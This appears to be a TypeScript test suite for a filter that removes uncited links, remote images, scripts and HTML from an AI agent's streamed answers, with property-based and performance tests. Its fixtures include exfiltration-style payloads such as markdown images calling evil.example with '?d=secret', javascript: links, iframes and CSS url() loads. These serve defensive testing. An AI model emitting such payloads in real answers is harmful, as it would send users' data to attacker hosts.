import test from 'ava'
import fc from 'fast-check'
import { createAnswerFilter, filterAnswer } from '../../../workers/agents/answer-filter.ts'
import { linksIn } from '../../../workers/agents/links.ts'

const sources = ['See https://docs.example.org/page?a=1#top (and https://docs.example.org/pic.png).']
const filter = () => createAnswerFilter({ citable: (n) => n >= 1 && n <= 3, linkable: linksIn(sources) })
const filtered = (answer: string) => filterAnswer(answer, filter())

const kept: Record<string, string> = {
  'a citation of a source': 'Closures capture variables [1]. They live on [2][3].',
  'a link that the sources have':
    'Read [the page](https://docs.example.org/page?a=1#top), or https://docs.example.org/page?a=1#top.',
  'a citation after an exclamation': 'Great![1]',
  'a link in angle brackets that the sources have': '<https://docs.example.org/pic.png>',
  'an index in a code span': 'Take `items[0]` and `items[9]`, or ``a ` b[7]``.',
  'a code block, whatever is in it':
    'So:\n\n```js\nfetch("https://api.example.com/" + list[0])\n// ![x](https://evil.example/x)\n```\n\nDone [1].',
  'a code block in a list': '1. Do:\n\n   ```js\n   a[0]\n   ```\n2. Done [2].',
  'a code block that does not end': '```py\nx[0] = "http://a.example"',
  'comparisons and generics': 'If a < b and Map<K, V> or Array<string> then 1 < 2.',
  'harmless markup': 'Press <kbd>Ctrl</kbd> and <br> then H2<sub>2</sub>O.',
  'brackets that cite nothing': 'A list [a, b] and a box [ ] and a note[^1].',
  exclamations: 'Well done! Really! [1]'
}
for (const [what, text] of Object.entries(kept)) {
  test(`stays: ${what}`, (t) => {
    t.is(filtered(text), text)
  })
}

test('marks that are too many to begin code are marks, however they come, and begin none', (t) => {
  const marks = '`'.repeat(40_000)
  const answer = `a ${marks}\nb ${'`'.repeat(1_500)} https://evil.example ${'`'.repeat(500)}`
  const expected = answer.replace('https://evil.example', '[link removed]')
  t.is(filtered(answer), expected)
  const { push, end } = filter()
  let out = ''
  for (let at = 0; at < answer.length; at += 700) out += push(answer.slice(at, at + 700))
  t.is(out + end(), expected)
})

const changed: [what: string, before: string, after: string][] = [
  ['a citation of nothing goes with its space', 'So it is [9]. And [4] so [1].', 'So it is. And so [1].'],
  ['citations in one bracket are told apart', 'So [1, 2]. So [1-3]. So [2; 8].', 'So [1][2]. So [1][2][3]. So [2].'],
  ['a remote image becomes its text', 'Look: ![chart](https://evil.example/p?d=secret) here', 'Look: chart here'],
  ['an image of the sources, too', 'Look: ![chart](https://docs.example.org/pic.png "t") here', 'Look: chart here'],
  [
    'an image by reference',
    '![x][r]\n\n[r]: https://docs.example.org/pic.png\n',
    '[x][r]\n\n[r]: https://docs.example.org/pic.png\n'
  ],
  [
    'a list of numbered targets',
    '![1]\n\n[1]: https://docs.example.org/pic.png\n',
    '![1]\n\n[1]  https://docs.example.org/pic.png\n'
  ],
  ['a link becomes its text', 'Click [here](https://evil.example/a(b)c "t") now', 'Click here now'],
  ['an image in a link', '[![a](https://evil.example/1)](https://evil.example/2)', 'a'],
  ['a link that was changed by a parameter', '[p](https://docs.example.org/page?a=1&d=x#top)', 'p'],
  ['a link without a scheme', '![x](//evil.example/x.png)', 'x'],
  ['a script', '[run](javascript:alert(1))', 'run'],
  ['a bare link', 'Go to https://evil.example/x?q=1, please.', 'Go to [link removed], please.'],
  ['a bare link without a scheme', 'Go to www.evil.example.', 'Go to [link removed].'],
  ['a link in angle brackets', 'Go to <https://evil.example>.', 'Go to [link removed].'],
  ['the target of a reference', '[x][r]\n\n[r]: https://evil.example/x.png\nEnd', '[x][r]\n\n\nEnd'],
  ['a number that is a link', 'So [1](https://evil.example).', 'So [1].'],
  ['an image in HTML', 'a <img src="https://evil.example/x" alt="x"> b', 'a  b'],
  ['an image in HTML without quotes or end', 'a <img src=//evil.example/x', 'a < img src=//evil.example/x'],
  ['a style that loads', '<b style="background:url(//evil.example)">x</b>', 'x</b>'],
  ['a frame', '<iframe srcdoc="x"></iframe>', ''],
  ['a code span that a table cuts', '| ` | ![x](https://evil.example/x) ` |', '| ` | x ` |'],
  ['a code span over two lines', '- ` a\n- ![x](https://evil.example/x) `', '- ` a\n- x `'],
  ['what looks like code but is not', '    ```\n![x](https://evil.example/x)', '    ```\nx'],
  ['what follows a block in a list', '- ```\n  code\nout ![x](https://evil.example/x)', '- ```\n  code\nout x'],
  ['what follows a block in a quote', '> ```\n> code\n![x](https://evil.example/x)', '> ```\n> code\nx'],
  [
    'what would become a link once something is taken out',
    'ht[9]tp://x.example ht[tp](//e)://x',
    'ht tp://x.example ht tp://x'
  ],
  [
    'what would become a target once another is taken out',
    `[${'x'.repeat(400)}](//e)(//e2)`,
    `[${'x'.repeat(400)}] (//e2)`
  ],
  [
    'what would be the target of our own brackets',
    '<https://e.example>(javascript:alert(1))',
    '[link removed] (javascript:alert(1))'
  ],
  ['what would define our own brackets', '<https://e.example>: //e', '[link removed] : //e'],
  ['what would become a citation once something is taken out', 'a [[9]7] b', 'a [ 7] b'],
  ['characters that cannot be stored', 'a\u0000b\ud800c\r\nd', 'ab\ufffdc\nd']
]
for (const [what, before, after] of changed) {
  test(`changes: ${what}`, (t) => {
    t.is(filtered(before), after)
  })
}

test('the numbers that were cited are told', (t) => {
  const one = filter()
  filterAnswer('A [2]. `x[1]` B [9][3]. C [2].', one)
  t.deepEqual(one.cited(), [2, 3])
})

test('text is shown as it comes, but for what is not decided yet', (t) => {
  const one = filter()
  t.is(one.push('Closures'), 'Closures')
  t.is(one.push(' are [1'), ' are')
  t.is(one.push('].'), ' [1].')
  t.is(one.push(' See ![x](https://evil'), ' See ')
  t.is(one.push('.example/x) then'), 'x then')
  t.is(one.end(), '')
})

const fragments = [
  '[1]',
  '[9]',
  ' [4',
  ']',
  '(',
  ')',
  '![a](https://evil.example/x)',
  '[b](https://docs.example.org/pic.png)',
  '`',
  '```',
  '\n',
  '\n\n',
  '```js\n',
  '> ',
  '- ',
  '1. ',
  '    ',
  'https://',
  'evil.example/q?x=1',
  'www.',
  '<',
  '<img src=x>',
  '<b>',
  '</b>',
  '<a href="',
  '">',
  '[r]: https://evil.example\n',
  '\\',
  '!',
  '|',
  '~~~',
  '\ud83d',
  '\ude00',
  ' ',
  'h',
  'word',
  'https://docs.example.org/page?a=1#top',
  '.',
  ', ',
  '[1, 2]',
  '[1](',
  '"',
  "'",
  '=',
  '\r',
  '\u0000'
]
const pieces = fc.array(fc.oneof(fc.constantFrom(...fragments), fc.string({ maxLength: 6 })), { maxLength: 40 })

test('however an answer is cut into pieces, the same comes out', (t) => {
  fc.assert(
    fc.property(pieces, fc.array(fc.integer({ min: 1, max: 7 }), { minLength: 1, maxLength: 60 }), (parts, cuts) => {
      const answer = parts.join('')
      const one = filter()
      let out = ''
      let at = 0
      for (let turn = 0; at < answer.length; turn++) {
        const size = cuts[turn % cuts.length] as number
        out += one.push(answer.slice(at, at + size))
        at += size
      }
      out += one.end()
      return out === filtered(answer)
    }),
    { numRuns: 5_000 }
  )
  t.pass()
})

test('what was filtered has nothing left to filter', (t) => {
  fc.assert(
    fc.property(pieces, (parts) => {
      const once = filtered(parts.join(''))
      // What stands behind a `<` may have been replaced; it is no tag either way.
      return filtered(once) === once || once.includes('<')
    }),
    { numRuns: 3_000 }
  )
  t.pass()
})

test.serial('long answers and hostile ones take no time', (t) => {
  const started = process.threadCpuUsage()
  for (const text of [
    '['.repeat(60_000),
    '!['.repeat(30_000),
    '`'.repeat(60_000),
    '<a '.repeat(20_000),
    '](('.repeat(20_000)
  ]) {
    filtered(text)
    const one = filter()
    for (let at = 0; at < text.length; at += 16) one.push(text.slice(at, at + 16))
    one.end()
  }
  t.true(process.threadCpuUsage(started).user < 6_000_000)
})
